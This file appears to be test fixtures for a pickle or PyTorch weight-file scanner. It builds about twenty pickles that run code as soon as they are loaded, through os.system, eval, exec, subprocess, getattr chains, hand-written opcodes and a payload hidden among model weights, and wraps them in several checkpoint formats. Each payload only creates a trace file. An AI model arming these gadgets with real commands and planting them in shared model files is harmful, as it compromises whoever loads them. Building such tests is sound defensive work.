"""Pickles that create a file as soon as they are loaded: each is a known way to run code."""

import functools
import io
import operator
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

# What Python's own loader makes a pickle call when it has been used before: EXT1 250.
EXTENSION = ("posix", "system", 250)


class Call:
    """Pickled, it is a call: of a function or of what another call returns."""

    def __init__(self, function: Callable, *arguments: object):
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable, tuple]:
        return self.call


def gadgets(trace: Path) -> dict[str, bytes]:
    """Pickles by the way in which they create ``trace``."""
    path, touch = str(trace), f"touch {trace}"
    code = f"open({path!r}, 'w')"
    system = Call(os.system, touch)
    hidden = Call(getattr, Call(getattr, Call(__import__, "os"), "path"), "os")
    calls = {
        "eval": Call(eval, code),
        "exec": Call(exec, code),
        "open": Call(open, path, "w"),
        "subprocess": Call(subprocess.getoutput, touch),
        "partial": Call(next, Call(map, functools.partial(open, mode="w"), [path])),
        "getattr": Call(next, Call(map, Call(getattr, hidden, "system"), [touch])),
        "methodcaller": Call(next, Call(map, operator.methodcaller("touch"), [trace])),
        "among weights": {"model": {"layer1.0.conv1.weight": torch.zeros(1), "bn1.weight": system}},
    }
    system_name = "cposix\nsystem\n"
    by_hand = {
        "INST": f"(S'{touch}'\niposix\nsystem\n.",
        "OBJ": f"(cposix\nsystem\nS'{touch}'\no.",
        "BUILD": f"ctypes\nSimpleNamespace\n)\x81}}S'__setstate__'\n{system_name}sbS'{touch}'\nb.",
        "Python 2": f"c__builtin__\neval\n(S{code!r}\ntR.",
        "dotted name": f"\x80\x04\x8c\x02os\x8c\x0epath.os.system\x93(S'{touch}'\ntR.",
    }
    return {
        **{f"system, protocol {i}": pickle.dumps(system, protocol=i) for i in (0, 1, 2, 4, 5)},
        **{name: pickle.dumps(call, protocol=4) for name, call in calls.items()},
        **{name: content.encode("latin1") for name, content in by_hand.items()},
    }


def extension_gadget(trace: Path) -> bytes:
    """Works once ``EXTENSION`` is registered and has been used."""
    return b"\x82\xfa(S'touch %s'\ntR." % str(trace).encode()


def as_pickle(content: bytes, folder: Path) -> Path:
    return _written(folder / "weights.pkl", content)


def as_bare_pth(content: bytes, folder: Path) -> Path:
    return _written(folder / "weights.pth", content)


def as_zip(content: bytes, folder: Path) -> Path:
    """As PyTorch writes files since 1.6."""
    with zipfile.ZipFile(folder / "weights.pth", "w") as file:
        file.writestr("archive/data.pkl", content)
        file.writestr("archive/version", "3\n")
    return folder / "weights.pth"


def as_old_pth(content: bytes, folder: Path) -> Path:
    """As PyTorch wrote files before: the header's pickles come first."""
    stream = io.BytesIO()
    torch.save({}, stream, _use_new_zipfile_serialization=False)
    stream.seek(0)
    for _ in range(3):
        pickle.load(stream)
    return _written(folder / "weights.pth", stream.getvalue()[: stream.tell()] + content)


def as_tar(content: bytes, folder: Path) -> Path:
    """As PyTorch wrote files at first."""
    with tarfile.open(folder / "weights.pth.tar", "w") as file:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            file.addfile(entry, io.BytesIO(content))
    return folder / "weights.pth.tar"


def _written(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


CONTAINERS = (as_pickle, as_bare_pth, as_zip, as_old_pth, as_tar)
